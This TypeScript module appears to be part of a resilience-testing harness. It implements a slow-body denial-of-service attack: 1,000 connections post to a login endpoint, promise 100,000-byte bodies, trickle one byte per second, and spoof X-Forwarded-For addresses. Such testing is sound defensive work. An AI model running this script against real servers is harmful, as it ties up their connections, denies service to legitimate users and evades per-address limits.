import { once } from 'node:events'
import {
  type Attack,
  closing,
  createCounts,
  createLoops,
  type HostileKind,
  pause,
  type Target,
} from '../attack.ts'
import { headOf, openRaw } from '../raw-socket.ts'

const connections = 1_000
const addresses = 8
const between = 1_000
const byteEveryMs = 1_000

/** Promises a body and sends a byte of it every second. */
export const endlessBodies: HostileKind = {
  name: 'endless-bodies',
  what: `${connections} requests from ${addresses} addresses whose bodies come at a byte a second`,
  async prepare({ url }: Target): Promise<Attack> {
    const counts = createCounts()
    const loops = createLoops(connections, async (index, stop) => {
      const socket = openRaw(url)
      socket.on('data', (data) => counts.add(data.subarray(9, 12).toString()))
      const closed = closing(socket)
      try {
        await once(socket, 'connect')
        counts.add('connections')
        socket.write(
          headOf('POST', '/users/auth/login', url, {
            'Content-Type': 'application/json',
            'Content-Length': 100_000,
            'X-Forwarded-For': `2001:db8:2${index % addresses}0::1`,
          }),
        )
        while (!socket.destroyed && !stop.aborted) {
          socket.write(' ')
          await Promise.race([closed, pause(byteEveryMs, stop)])
        }
      } finally {
        socket.destroy()
        await pause(between, stop)
      }
    })
    return { begin: loops.begin, end: loops.end, counts: counts.all }
  },
}
